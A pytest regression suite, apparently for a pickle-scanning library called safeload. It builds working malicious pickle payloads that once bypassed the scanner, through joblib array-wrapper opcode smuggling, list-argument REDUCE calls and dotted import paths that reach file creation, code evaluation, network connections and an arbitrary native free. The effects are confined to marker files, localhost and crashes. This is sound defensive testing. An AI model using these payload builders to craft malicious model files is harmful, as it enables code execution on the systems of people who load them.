"""Red team of the use-model engine (issue 12): bypasses found attacking it with the source in hand.

Each ``BYPASSES`` entry is a live payload (``test_bypass_is_live`` runs it under the real loader in a subprocess
and sees its effect: a marker file under ``tmp_path``, a connection to a server on 127.0.0.1, or a crash) that
the engine scanned as clean and loaded when it was found; every one is fixed and its refusal tests are plain
regression tests (a new bypass goes in as ``xfail(strict=True)`` until fixed). ``REFUSED`` holds attacks tried on the way that safeload already refuses: plain regression tests.
``FALSE_POSITIVES`` holds ordinary files the new engine refuses, also strict xfails.

Safe loads of live bypasses run in a subprocess: an unfixed engine lets them run, and one of them crashes the
process that loads it.

Bypass classes (the code each one defeats is named at its builder):
- joblib's array hook follows the callee's *name* (``copyreg.__newobj__(NumpyArrayWrapper)`` is not hooked) and
  the class an object was created with (BUILD slot state ``__class__`` changes it): the engine and joblib then read
  different bytes as opcodes, or a companion file goes unscanned;
- pickle.py (joblib's unpickler) calls ``func(*args)`` with any iterable: non-tuple REDUCE arguments are invisible;
- the transitional prefix rules admit dotted attribute paths through modules (``sklearn`` + ``logging.FileHandler``,
  ``sklearn.utils.fixes`` + ``pd.core.computation.expr.Expr``: arbitrary code), re-exports (``Client``) and classes
  defined there whose construction, ``__setstate__``, ``__call__`` or ``__del__`` touch files, processes, the
  network or native memory (``ScoringMonitor``, ``Parallel``, ``lightgbm.sklearn.Dataset``).
"""

from __future__ import annotations

import functools
import os
import pickle
import socket
import struct
import subprocess
import sys
import textwrap
import threading
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import safeload
from safeload import Severity
from tests import attacks
from tests.attacks import C, G

ROOT = Path(__file__).resolve().parent.parent
ALL = tuple(sorted(attacks.CONTAINERS))
JOBLIB = ("joblib", "joblib-zlib")
MEMMAP = G("numpy", "memmap")
NAW = G("joblib.numpy_pickle", "NumpyArrayWrapper")
MARKER_MODULE = "rt_marker_mod"


# --- payload building blocks -------------------------------------------------------------------------------------
def frag(value: Any) -> bytes:
    """The opcodes of ``value`` without PROTO and STOP (``attacks.assemble`` builds ``\\x80\\x02`` + body + ``.``)."""
    return attacks.assemble(value)[2:-1]


def proto(n: int, body: bytes) -> bytes:
    return bytes([0x80, n]) + body + b"."


def open_marker(marker: Path) -> bytes:
    """``builtins.open(marker, "w")`` then POP: opcodes the engine must never let a loader run unseen."""
    return b"cbuiltins\nopen\n(S'" + str(marker).encode() + b"'\nS'w'\ntR0"


def memmap_args(marker: Path) -> list[Any]:
    return [str(marker), "uint8", "w+", 0, (1,)]


def u1_wrapper_state(count: int, **extra: Any) -> dict[str, Any]:
    """The BUILD state joblib pickles for a uint8 array of ``count`` elements."""
    state: dict[str, Any] = {"subclass": G("numpy", "ndarray"), "shape": (count,), "order": "C",
                             "dtype": C(G("numpy", "dtype"), ("u1", False, True)), "allow_mmap": False}
    state.update(extra)
    return state


def reduce_with_list(func: Any, items: list[Any]) -> bytes:
    """REDUCE ``func`` with a *list* of arguments: the pure-Python unpickler (joblib's) calls ``func(*list)``."""
    out = bytearray(frag(func))
    out += b"]("
    for item in items:
        out += frag(item)
    out += b"eR"
    return bytes(out)


@dataclass
class Env:
    """Where a payload leaves its effect, and what a loader subprocess needs to see it."""

    marker: Path
    port: int
    env: dict[str, str] = field(default_factory=dict)


# --- bypasses ----------------------------------------------------------------------------------------------------
def joblib_wrapper_by_newobj(e: Env) -> bytes:
    # joblib replaces any NumpyArrayWrapper *instance* by the array it reads from the raw bytes after BUILD; the
    # engine's BUILD hook is looked up by the callee's name (semantics._build: ``inst.func_name``), so a wrapper made
    # by copyreg.__newobj__ is never skipped: the 5 "array" bytes are a BINBYTES header that swallows, for the
    # engine, the opcodes joblib runs next.
    hidden = open_marker(e.marker)
    body = frag(C(G("copyreg", "__newobj__"), (NAW,), u1_wrapper_state(5)))
    return proto(2, body + b"B" + struct.pack("<I", len(hidden)) + hidden)


def joblib_wrapper_by_reconstructor(e: Env) -> bytes:
    hidden = open_marker(e.marker)
    body = frag(C(G("copyreg", "_reconstructor"), (NAW, G("builtins", "object"), None), u1_wrapper_state(5)))
    return proto(2, body + b"B" + struct.pack("<I", len(hidden)) + hidden)


def joblib_companion_by_newobj(e: Env) -> bytes:
    # Pre-0.10 NDArrayWrapper: joblib numpy.load()s the companion file named in the state with allow_pickle=True.
    # The companion scan is a BUILD hook too, keyed by name: made by copyreg.__newobj__, the companion is never read.
    (e.marker.parent / "side.npy").write_bytes(attacks.npy_object(attacks.assemble(
        C(G("builtins", "open"), (str(e.marker), "w")))))
    wrapper = C(G("copyreg", "__newobj__"), (G("joblib.numpy_pickle_compat", "NDArrayWrapper"),),
                {"filename": "side.npy", "subclass": G("numpy", "ndarray"), "allow_mmap": False})
    return proto(2, frag(wrapper))


def joblib_wrapper_class_swapped_away(e: Env) -> bytes:
    # BUILD slot state {"__class__": calendar.Calendar} turns the wrapper into a Calendar (setattr): joblib no longer
    # reads an array there, the engine's hook still skips the "array" bytes, which joblib runs as opcodes. A first,
    # genuine array with an alignment byte below 0x28 stops the hook from also reading the buffer as pickle.load.
    hidden = open_marker(e.marker)
    decoy = frag(NAW) + b")\x81" + frag(u1_wrapper_state(1, numpy_array_alignment_bytes=16)) + b"b"  # NEWOBJ, BUILD
    decoy += b"\x00\x07" + b"0"  # padding length 0, one byte of array data, POP the array
    swapped = frag(NAW) + b")\x81" + frag((u1_wrapper_state(len(hidden)), {"__class__": G("calendar", "Calendar")}))
    return proto(2, decoy + swapped + b"b" + hidden)


def joblib_wrapper_class_swapped_in(e: Env) -> bytes:
    # The other way round: a Calendar becomes a NumpyArrayWrapper through its BUILD slot state; joblib reads 5
    # bytes of array there, the engine walks them as opcodes (a BINBYTES that hides what joblib runs next).
    hidden = open_marker(e.marker)
    body = frag(C(G("calendar", "Calendar"), ())) + frag((u1_wrapper_state(5), {"__class__": NAW})) + b"b"
    return proto(2, body + b"B" + struct.pack("<I", len(hidden)) + hidden)


def joblib_newobj_list_args(e: Env) -> bytes:
    # pickle.py's load_reduce does func(*args): a list works (the C unpickler insists on a tuple). The engine reads
    # non-tuple args as "no arguments" (semantics._call: ``arg_tuple = ... else ()``) and never walks them
    # (_trace_escapes), so copyreg.__newobj__(numpy.memmap, path, ..., "w+") is invisible.
    return proto(2, reduce_with_list(G("copyreg", "__newobj__"), [MEMMAP, *memmap_args(e.marker)]) + b"0N")


def joblib_partial_list_args(e: Env) -> bytes:
    return proto(2, reduce_with_list(G("functools", "partial"), [MEMMAP, *memmap_args(e.marker)]) + b")R0N")


def joblib_rebuild_from_type_list_args(e: Env) -> bytes:
    return proto(2, reduce_with_list(G("torch._tensor", "_rebuild_from_type_v2"),
                                     [MEMMAP, G("torch", "Tensor"), tuple(memmap_args(e.marker)), {}]) + b"0N")


def prefix_path_filehandler(e: Env) -> bytes:
    # Protocol >= 4 GLOBAL names are attribute paths. "sklearn" + "logging.FileHandler" walks through the logging
    # module sklearn imports; the legacy "sklearn." prefix rule admits it (capitalised last component) and the deny
    # check only looks for *dotless* denied module keys inside a path (classify._deny_for), so the denied
    # "logging.FileHandler" is never matched. FileHandler(path) creates the file.
    return proto(4, frag(C(G("sklearn", "logging.FileHandler"), (str(e.marker),))) + b"0N")


def prefix_path_fileio(e: Env) -> bytes:
    return proto(4, frag(C(G("sklearn", "logging.io.FileIO"), (str(e.marker), "w"))) + b"0N")


def prefix_path_package_exporter(e: Env) -> bytes:
    # torch.optim.* modules expose ``torch``: every capitalised name in torch is "torch.optim.<mod>.torch...", so
    # the denied "torch.package" is walked through unseen. PackageExporter(path) writes a zip there.
    return proto(4, frag(C(G("torch.optim.sgd", "torch.package.PackageExporter"), (str(e.marker),))) + b"0N")


def prefix_path_joblib_memory(e: Env) -> bytes:
    # joblib.Memory(location) creates the cache directory at load time.
    return proto(4, frag(C(G("sklearn.utils.validation", "joblib.Memory"), (str(e.marker),))) + b"0N")


def prefix_path_plot_backend_import(e: Env) -> bytes:
    # pandas.core.frame imports pandas: "pandas.core.frame" + "pandas.plotting.PlotAccessor" is admitted by the
    # "pandas.core." prefix; calling the accessor with backend=<name> does importlib.import_module(<name>):
    # an arbitrary module import (here one whose top-level code creates the marker).
    accessor = C(G("pandas.core.frame", "pandas.plotting.PlotAccessor"), (None,))
    call = C(C(G("functools", "partial"), (accessor,), (accessor, (), {"backend": MARKER_MODULE}, None)), ())
    return proto(4, frag(call) + b"0N")


def prefix_path_pandas_expr_eval(e: Env) -> bytes:
    # Arbitrary code. "pandas.core.computation." is excluded from the pandas prefix rule, but sklearn.utils.fixes
    # imports pandas as pd: "sklearn.utils.fixes" + "pd.core.computation.expr.Expr" is admitted by the "sklearn."
    # rule. Expr.__init__ parses *and evaluates* attribute chains and method calls (dunders included) in the scope
    # it is given: g.__globals__ of an allowed Python function is a module's globals, here torch.serialization's,
    # which hold ``os``.
    scope = C(G("sklearn.utils.fixes", "pd.core.computation.scope.Scope"),
              (0, {"g": G("torch.serialization", "_get_layout")}))
    code = f"g.__globals__.get('os').open({str(e.marker)!r}, {os.O_CREAT | os.O_WRONLY})"
    expr = C(G("sklearn.utils.fixes", "pd.core.computation.expr.Expr"), (code, "python", "python", scope))
    return proto(4, frag(expr) + b"0N")


def prefix_reexport_client(e: Env) -> bytes:
    # sklearn.callback._transport imports multiprocessing.connection.Client; the prefix rule admits the re-export.
    return proto(2, frag(C(G("sklearn.callback._transport", "Client"), (("127.0.0.1", e.port),))) + b"0N")


def prefix_scoring_monitor_setstate(e: Env) -> bytes:
    # A class *defined* in scikit-learn (no re-export): ScoringMonitor.__setstate__ calls can_reuse_listener(handle),
    # which connects to handle.address (multiprocessing.connection.Client) and, failing that, opens a listener and
    # starts a thread. The address comes from the file: this is how every pickled ScoringMonitor loads.
    handle = C(G("sklearn.callback._transport", "ListenerHandle"), (("127.0.0.1", e.port), b"k" * 32))
    monitor = C(G("copyreg", "__newobj__"), (G("sklearn.callback._scoring_monitor", "ScoringMonitor"),),
                {"_listener_handle": handle, "_log": [], "_scoring": None, "_estimator_scorers": {}})
    return proto(2, frag(monitor))


def prefix_lightgbm_dataset_free(e: Env) -> bytes:
    # lightgbm.sklearn re-exports lightgbm.basic.Dataset (admitted by the "lightgbm.sklearn." prefix). It has no
    # __setstate__, so BUILD sets _handle to any integer; Dataset.__del__ passes it to LGBM_DatasetFree: a native
    # free of an attacker-chosen pointer (here it only crashes the loading process).
    return proto(2, frag(C(G("copyreg", "__newobj__"), (G("lightgbm.sklearn", "Dataset"),),
                           {"_handle": 0x41414141, "used_indices": None})))


def prefix_sklearn_parallel(e: Env) -> bytes:
    # sklearn.utils.parallel.Parallel is defined in scikit-learn (joblib.Parallel's subclass): the prefix rule
    # permits calling it and calling its instances. Parallel(n_jobs=2, temp_folder=<path>, max_nbytes=1)(tasks)
    # starts two loky worker processes and creates its memmapping folder under the attacker's path.
    cls = G("sklearn.utils.parallel", "Parallel")
    kwargs = {"n_jobs": 2, "backend": "loky", "temp_folder": str(e.marker), "max_nbytes": 1}
    parallel = C(C(G("functools", "partial"), (cls,), (cls, (), kwargs, None)), ())
    tasks = [(G("numpy", "add"), (attacks.Raw(np.ones(64)), 1), {})]
    return proto(2, frag(C(parallel, (tasks,))) + b"0N")


@dataclass(frozen=True)
class Bypass:
    build: Callable[[Env], bytes]
    containers: tuple[str, ...]
    reason: str
    effect: str = "marker"          # "marker", "connect" (a connection to the test server) or "crash"
    needs: tuple[str, ...] = ()


BYPASSES: dict[str, Bypass] = {
    "joblib-wrapper-by-newobj": Bypass(joblib_wrapper_by_newobj, JOBLIB,
                                       "bypass: joblib array hook keyed by callee name, not the instance's class"),
    "joblib-wrapper-by-reconstructor": Bypass(joblib_wrapper_by_reconstructor, JOBLIB,
                                              "bypass: joblib array hook keyed by callee name (_reconstructor)"),
    "joblib-companion-by-newobj": Bypass(joblib_companion_by_newobj, ("joblib",),
                                         "bypass: NDArrayWrapper companion never scanned when made by __newobj__"),
    "joblib-wrapper-class-swapped-away": Bypass(joblib_wrapper_class_swapped_away, JOBLIB,
                                                "bypass: BUILD slot state __class__ turns a wrapper into another class"),
    "joblib-wrapper-class-swapped-in": Bypass(joblib_wrapper_class_swapped_in, JOBLIB,
                                              "bypass: BUILD slot state __class__ turns an object into a wrapper"),
    "joblib-newobj-list-args": Bypass(joblib_newobj_list_args, JOBLIB,
                                      "bypass: pickle.py calls func(*list); non-tuple REDUCE args are never walked"),
    "joblib-partial-list-args": Bypass(joblib_partial_list_args, JOBLIB,
                                       "bypass: non-tuple REDUCE args hide the function of a partial"),
    "joblib-rebuild-from-type-list-args": Bypass(joblib_rebuild_from_type_list_args, JOBLIB,
                                                 "bypass: non-tuple REDUCE args hide the rebuild helper's callee",
                                                 needs=("torch",)),
    "prefix-path-filehandler": Bypass(prefix_path_filehandler, ALL,
                                      "bypass: prefix rule admits a dotted path through a module (sklearn.logging)"),
    "prefix-path-fileio": Bypass(prefix_path_fileio, ALL, "bypass: prefix rule admits sklearn.logging.io.FileIO"),
    "prefix-path-package-exporter": Bypass(prefix_path_package_exporter, ALL,
                                           "bypass: denied torch.package reached through torch.optim.sgd.torch",
                                           needs=("torch",)),
    "prefix-path-joblib-memory": Bypass(prefix_path_joblib_memory, ALL,
                                        "bypass: prefix rule admits sklearn.utils.validation.joblib.Memory (mkdir)"),
    "prefix-path-plot-backend-import": Bypass(prefix_path_plot_backend_import, ALL,
                                              "bypass: pandas.core prefix admits PlotAccessor: arbitrary module import",
                                              needs=("pandas",)),
    "prefix-path-pandas-expr-eval": Bypass(prefix_path_pandas_expr_eval, ALL,
                                           "bypass: sklearn.utils.fixes.pd.core.computation.expr.Expr runs code",
                                           needs=("torch", "pandas")),
    "prefix-reexport-client": Bypass(prefix_reexport_client, ALL,
                                     "bypass: prefix rule admits re-exported multiprocessing Client (network)",
                                     effect="connect"),
    "prefix-scoring-monitor-setstate": Bypass(prefix_scoring_monitor_setstate, ALL,
                                              "bypass: sklearn ScoringMonitor.__setstate__ connects to an address",
                                              effect="connect"),
    "prefix-sklearn-parallel": Bypass(prefix_sklearn_parallel, ALL,
                                      "bypass: sklearn Parallel (prefix rule) spawns workers and mkdirs temp_folder"),
    "prefix-lightgbm-dataset-free": Bypass(prefix_lightgbm_dataset_free, ALL,
                                           "bypass: lightgbm.sklearn.Dataset.__del__ frees a pointer from the file",
                                           effect="crash", needs=("lightgbm",)),
}


# --- fixtures ------------------------------------------------------------------------------------------------------
@pytest.fixture
def env(tmp_path: Path) -> Iterator[Env]:
    """A marker path, a TCP server on 127.0.0.1 that creates the marker when anything connects, and a module on
    PYTHONPATH (for loader subprocesses) whose import creates it."""
    marker = tmp_path / "PWNED_MARKER"
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / f"{MARKER_MODULE}.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            marker.write_text("connected")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    subprocess_env = {k: v for k, v in os.environ.items() if not k.startswith("SAFELOAD_")}
    subprocess_env["PYTHONPATH"] = os.pathsep.join([str(modules), str(ROOT)])
    try:
        yield Env(marker, server.getsockname()[1], subprocess_env)
    finally:
        stop.set()
        thread.join(5)
        server.close()


def _write(e: Env, label: str, container: str) -> Path:
    bypass = BYPASSES.get(label)
    build = bypass.build if bypass is not None else REFUSED[label]
    for module in bypass.needs if bypass is not None else ():
        pytest.importorskip(module)
    wrap, _ = attacks.CONTAINERS[container]
    path = e.marker.parent / f"{label}.{container}"
    path.write_bytes(wrap(build(e)))
    return path


def _run(code: str, e: Env) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], env=e.env, cwd=e.marker.parent,
                          timeout=240, check=False, capture_output=True, text=True)


def _effect_seen(e: Env, effect: str, proc: subprocess.CompletedProcess[str]) -> bool:
    if effect == "crash":
        return proc.returncode < 0
    for _ in range(20 if effect == "connect" else 1):  # the server thread writes the marker
        if e.marker.exists():
            return True
        threading.Event().wait(0.05)
    return False


# --- bypass tests ------------------------------------------------------------------------------------------------
def _bypass_params(all_containers: bool) -> list[Any]:
    params = []
    for label, bypass in sorted(BYPASSES.items()):
        containers = bypass.containers if all_containers else bypass.containers[:1]
        for container in containers:
            params.append(pytest.param(label, container, id=f"{label}-{container}"))
    return params


@pytest.mark.slow
@pytest.mark.parametrize("label", sorted(BYPASSES))
def test_bypass_is_live(env: Env, label: str) -> None:
    bypass = BYPASSES[label]
    container = bypass.containers[0]
    path = _write(env, label, container)
    proc = _run(f"""
        import warnings; warnings.simplefilter("ignore")
        p = {str(path)!r}
        try:
            {attacks.CONTAINERS[container][1]}
        except Exception:
            pass
    """, env)
    assert _effect_seen(env, bypass.effect, proc), f"{label} is not live: {proc.stderr[-800:]}"


@pytest.mark.parametrize(("label", "container"), _bypass_params(all_containers=True))
def test_bypass_scan_blocks(env: Env, label: str, container: str) -> None:
    path = _write(env, label, container)
    result = safeload.scan(path)
    assert result.blocking(Severity.MEDIUM), result.summary(Severity.INFO)


@pytest.mark.slow
@pytest.mark.parametrize(("label", "container"), _bypass_params(all_containers=False))
def test_bypass_refused_by_safe_loader(env: Env, label: str, container: str) -> None:
    path = _write(env, label, container)
    proc = _run(f"""
        import warnings; warnings.simplefilter("ignore")
        from pathlib import Path
        import safeload
        from tests import attacks
        try:
            attacks.safe_load({container!r}, Path({str(path)!r}))
        except safeload.UnsafeModelError:
            print("REFUSED")
        except Exception as exc:
            print("LOADED, then", type(exc).__name__)
        else:
            print("LOADED")
    """, env)
    effect = _effect_seen(env, BYPASSES[label].effect, proc)
    assert "REFUSED" in proc.stdout, (proc.stdout, proc.stderr[-800:])
    assert not effect


# --- the engine reads INT as the C unpickler does ----------------------------------------------------------------
def test_int_with_leading_zero_reads_as_the_c_unpickler() -> None:
    from safeload._context import ScanContext
    from safeload.config import resolve_policy
    from safeload.engine.walker import PickleWalker

    data = b"(I010\ncnumpy\nmemmap\nK\nI1\nd."  # {8: numpy.memmap, 10: 1} to CPython
    value = PickleWalker(data, ScanContext(resolve_policy(None, None, None), "int")).walk(0).value
    assert value.keys() == pickle.loads(data).keys()


# --- attacks already refused (regression tests) ----------------------------------------------------------------
def _memmap_call(e: Env) -> Any:
    return memmap_args(e.marker)


REFUSED: dict[str, Callable[[Env], bytes]] = {
    # partial made by NEWOBJ (the engine sets no partial_func), its function swapped by BUILD, then called
    "newobj-partial-setstate-swap": lambda e: proto(2, frag(G("functools", "partial")) + b"(" + frag(G("builtins", "int"))
                                                    + b"t\x81" + frag((MEMMAP, tuple(_memmap_call(e)), {}, None))
                                                    + b"b)R0N"),
    # copyreg.__newobj__(functools.partial, f, *args): the real partial.__new__ receives f
    "newobj-helper-partial-args": lambda e: proto(2, frag(C(C(G("copyreg", "__newobj__"),
                                                              (G("functools", "partial"), MEMMAP, *_memmap_call(e))),
                                                            ())) + b"0N"),
    # _rebuild_from_type_v2(copyreg.__newobj__, Tensor, [memmap, ...], {}): Python-level *args takes the list
    "rebuild-from-type-list-inner": lambda e: proto(2, frag(C(G("torch._tensor", "_rebuild_from_type_v2"), (
        G("copyreg", "__newobj__"), G("torch", "Tensor"), [MEMMAP, *_memmap_call(e)], {}))) + b"0N"),
    # dill's _create_array(f, args, state): f(*args) with a list
    "dill-create-array-list": lambda e: proto(2, frag(C(G("dill._dill", "_create_array"), (
        G("copyreg", "__newobj__"), [MEMMAP, *_memmap_call(e)], None))) + b"0N"),
    # identity functions launder a name into an "instance" of the identity function, which is then called
    "function-transformer-identity": lambda e: proto(2, frag(C(C(G(
        "sklearn.preprocessing._function_transformer", "_identity"), (MEMMAP,)), tuple(_memmap_call(e)))) + b"0N"),
    "nn-identity-laundering": lambda e: proto(2, frag(C(C(C(G("torch.nn.modules.linear", "Identity"), ()), (MEMMAP,)),
                                                        tuple(_memmap_call(e)))) + b"0N"),
    # dill._load_type returns types by name; "PartialType" is functools.partial
    "dill-load-type-partial": lambda e: proto(2, frag(C(C(C(G("dill._dill", "_load_type"), ("PartialType",)),
                                                          (MEMMAP, *_memmap_call(e))), ())) + b"0N"),
    # other opcodes and helpers that call a class
    "inst-memmap": lambda e: b"(" + b"".join(frag(a) for a in _memmap_call(e)) + b"inumpy\nmemmap\n0N.",
    "newobj-ex-memmap": lambda e: proto(4, frag(MEMMAP) + frag((str(e.marker),))
                                        + frag({"mode": "w+", "shape": (1,)}) + b"\x920N"),
    "copyreg-newobj-ex-memmap": lambda e: proto(2, frag(C(G("copyreg", "__newobj_ex__"), (
        MEMMAP, (str(e.marker),), {"mode": "w+", "shape": (1,)}))) + b"0N"),
    "ufunc-reconstruct-memmap": lambda e: proto(2, frag(C(C(G("numpy.core", "_ufunc_reconstruct"), ("numpy", "memmap")),
                                                          tuple(_memmap_call(e)))) + b"0N"),
    # denied objects reached through a *dotless* denied module key are caught
    "prefix-path-through-os": lambda e: proto(4, frag(C(G("torch.optim.sgd", "torch.os.system"),
                                                        (f"touch {e.marker}",))) + b"0N"),
}

@pytest.mark.slow
@pytest.mark.parametrize("label", sorted(REFUSED))
def test_refused_attack_is_live(env: Env, label: str) -> None:
    if label.startswith(("rebuild", "nn-")):
        pytest.importorskip("torch")
    path = _write(env, label, "pickle")
    proc = _run(f"""
        import warnings; warnings.simplefilter("ignore")
        import pickle
        try:
            pickle.load(open({str(path)!r}, "rb"))
        except Exception:
            pass
    """, env)
    assert _effect_seen(env, "marker", proc), f"{label} is not live: {proc.stderr[-800:]}"


@pytest.mark.parametrize("container", ALL)
@pytest.mark.parametrize("label", sorted(REFUSED))
def test_refused_attack_stays_refused(env: Env, label: str, container: str) -> None:
    path = _write(env, label, container)
    result = safeload.scan(path)
    assert result.blocking(Severity.MEDIUM), result.summary(Severity.INFO)
    with pytest.raises(safeload.UnsafeModelError):
        attacks.safe_load(container, path)
    assert not env.marker.exists()


# --- false positives ---------------------------------------------------------------------------------------------
def _sklearn_column_selector() -> Any:
    import pandas as pd
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    frame = pd.DataFrame({"a": np.arange(6.0), "c": list("xyzxyz")})
    return ColumnTransformer([("num", StandardScaler(), make_column_selector(dtype_include=np.number)),
                              ("cat", OneHotEncoder(), make_column_selector(dtype_include=object))]).fit(frame)


def _sklearn_grid_search_scorer() -> Any:
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import f1_score, make_scorer
    from sklearn.model_selection import GridSearchCV

    x = np.random.RandomState(0).rand(20, 3)
    return GridSearchCV(LogisticRegression(), {"C": [0.1, 1.0]}, cv=2,
                        scoring=make_scorer(f1_score)).fit(x, (x[:, 0] > 0.5).astype(int))


def _torch_encoder_gelu() -> Any:
    import torch

    return torch.nn.TransformerEncoderLayer(16, 2, 32, activation="gelu", batch_first=True)


def _torch_cyclic_lr() -> Any:
    import torch

    opt = torch.optim.SGD(torch.nn.Linear(2, 2).parameters(), lr=0.1)
    return torch.optim.lr_scheduler.CyclicLR(opt, 0.01, 0.1)


def _torch_weight_norm() -> Any:
    import torch

    return torch.nn.utils.weight_norm(torch.nn.Conv1d(2, 2, 3))


def _torch_spectral_norm() -> Any:
    import torch

    return torch.nn.utils.spectral_norm(torch.nn.Linear(4, 4))


def _pandas_frame(kind: str) -> Any:
    import pandas as pd

    columns = {
        "tz": lambda: pd.date_range("2020", periods=3, tz="Europe/Paris"),
        "string-na": lambda: pd.array(["a", None, "c"], dtype="string"),
        "interval": lambda: pd.interval_range(0, 3),
        "sparse": lambda: pd.arrays.SparseArray([0, 1, 0]),
    }
    if kind == "timedelta-index":
        return pd.Series(range(3), index=pd.timedelta_range("1D", periods=3))
    return pd.DataFrame({kind: columns[kind]()})


FALSE_POSITIVES: dict[str, tuple[Callable[[], Any], str, str]] = {
    # label: (builder, how it is saved, reason)
    "sklearn-make-column-selector": (_sklearn_column_selector, "joblib",
                                     "false positive: make_column_selector and numpy.number are unknown"),
    "sklearn-gridsearch-f1-scorer": (_sklearn_grid_search_scorer, "joblib",
                                     "false positive: scorer functions (sklearn.metrics.f1_score) are unknown"),
    "torch-encoder-layer-gelu": (_torch_encoder_gelu, "torch",
                                 "false positive: F.gelu pickles as torch._C._nn.gelu, which is unknown"),
    "torch-cyclic-lr-object": (_torch_cyclic_lr, "torch",
                               "false positive: CyclicLR._triangular_scale_fn fails the prefix rule (lowercase)"),
    "torch-weight-norm-model": (_torch_weight_norm, "torch",
                                "false positive: torch.nn.utils.weight_norm.WeightNorm hook is unknown"),
    "torch-spectral-norm-model": (_torch_spectral_norm, "torch",
                                  "false positive: torch.nn.utils.spectral_norm hooks are unknown"),
    "pandas-tz-aware-column": (functools.partial(_pandas_frame, "tz"), "pickle",
                               "false positive: zoneinfo.ZoneInfo._unpickle is unknown"),
    "pandas-string-dtype-na": (functools.partial(_pandas_frame, "string-na"), "pickle",
                               "false positive: pandas.NA is unknown"),
    "pandas-interval-column": (functools.partial(_pandas_frame, "interval"), "pickle",
                               "false positive: pandas._libs.interval.IntervalMixin is unknown"),
    "pandas-sparse-column": (functools.partial(_pandas_frame, "sparse"), "pickle",
                             "false positive: pandas.SparseDtype and pandas._libs.sparse.IntIndex are unknown"),
    "pandas-timedelta-index": (functools.partial(_pandas_frame, "timedelta-index"), "pickle",
                               "false positive: pandas.core.indexes.timedeltas._new_TimedeltaIndex is unknown"),
}


# Fixed since the red-team run: the source analysis proves some inert (SL116), the generated and reviewed
# catalogue covers the rest.
_FIXED_FALSE_POSITIVES = set(FALSE_POSITIVES)


@pytest.mark.parametrize("label", [
    pytest.param(label) if label in _FIXED_FALSE_POSITIVES else
    pytest.param(label, marks=pytest.mark.xfail(strict=True, reason=reason))
    for label, (_, _, reason) in sorted(FALSE_POSITIVES.items())])
def test_ordinary_file_is_clean(tmp_path: Path, label: str) -> None:
    builder, how, _ = FALSE_POSITIVES[label]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        obj = builder()
    path = tmp_path / f"{label}.{how}"
    if how == "joblib":
        import joblib

        joblib.dump(obj, path, compress=3)
    elif how == "torch":
        torch = pytest.importorskip("torch")
        torch.save(obj, path)
    else:
        path.write_bytes(pickle.dumps(obj, protocol=5))
    result = safeload.scan(path)
    assert result.is_safe(), result.summary(Severity.MEDIUM)
